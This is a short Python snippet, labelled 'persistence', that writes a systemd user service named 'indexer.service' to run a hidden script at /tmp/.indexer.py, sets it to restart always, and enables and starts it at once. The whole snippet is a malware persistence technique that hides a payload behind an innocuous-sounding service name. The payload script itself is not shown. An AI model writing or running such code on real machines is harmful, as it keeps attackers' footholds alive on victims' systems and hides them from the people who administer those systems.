# persistence: a systemd user unit written and enabled
import subprocess
from pathlib import Path

unit_dir = Path.home() / ".config/systemd/user"
unit_dir.mkdir(parents=True, exist_ok=True)
(unit_dir / "indexer.service").write_text(
    "[Service]\nExecStart=/usr/bin/python3 /tmp/.indexer.py\nRestart=always\n"
    "[Install]\nWantedBy=default.target\n"
)
subprocess.run(["systemctl", "--user", "enable", "--now", "indexer.service"])
